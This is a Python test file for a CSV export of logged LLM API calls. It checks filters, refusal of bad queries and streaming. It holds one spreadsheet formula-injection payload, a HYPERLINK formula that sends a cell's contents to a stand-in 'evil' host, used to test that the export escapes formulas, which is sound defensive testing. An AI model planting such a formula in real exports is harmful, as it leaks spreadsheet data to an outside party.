import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from starlette.testclient import TestClient

from tests.support.calls import GPT, LLAMA, call, record
from writer.bootstrap import App
from writer.domain.usage import Outcome

HOSTILE = '=HYPERLINK("http://evil/?"&A1)'


def lines(client: TestClient, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/usage/calls.csv{query}")
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


@pytest.fixture
def filled(app: App) -> App:
    record(
        app,
        call(1),
        call(2, outcome=Outcome.FAILED, days_ago=3),
        call(3, cost=None, days_ago=5),
        call(4, owner="somebody"),
        call(5, route=HOSTILE, days_ago=6),
    )
    return app


def test_every_call_of_ones_own_is_a_line_newest_first(filled: App, client: TestClient) -> None:
    found = lines(client)

    assert [line["Call"] for line in found] == ["call-1", "call-2", "call-3", "call-5"]
    assert [line["Cost in $"] for line in found] == ["0.0015", "0.0015", "", "0.0015"]
    assert found[1]["Error"] == "RateLimited"


def test_a_formula_among_the_cells_is_text(filled: App, client: TestClient) -> None:
    assert lines(client)[-1]["Route"] == f"'{HOSTILE}"


@pytest.mark.parametrize(
    ("query", "calls"),
    [
        (f"?route={LLAMA}", ["call-3"]),
        (f"?route={LLAMA}&route={GPT}&outcome=failed", ["call-2"]),
        ("?cached=yes", []),
        ("?person=somebody", []),
        (f"?since={(datetime.now(UTC) - timedelta(days=4)).date()}", ["call-1", "call-2"]),
    ],
)
def test_filters_say_which_calls(filled: App, client: TestClient, query: str, calls: list[str]) -> None:
    assert [line["Call"] for line in lines(client, query)] == calls


@pytest.mark.parametrize(
    "query",
    [
        "?since=yesterday",
        "?since=0001-01-01T00:00:00%2B14:00",
        "?until=9999-12-31T23:59:59-14:00",
        "?outcome=fine",
        "?colour=red",
        "?cached=1",
    ],
)
def test_what_cannot_be_asked_is_refused_in_words(app: App, client: TestClient, query: str) -> None:
    response = client.get(f"/usage/calls.csv{query}")

    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"


def test_many_calls_come_in_pieces(app: App, client: TestClient) -> None:
    record(app, *(call(number) for number in range(3000)))

    with client.stream("GET", "/usage/calls.csv") as response:
        pieces = list(response.iter_raw())

    assert len(pieces) > 3
    assert b"".join(pieces).count(b"\r\n") == 3001
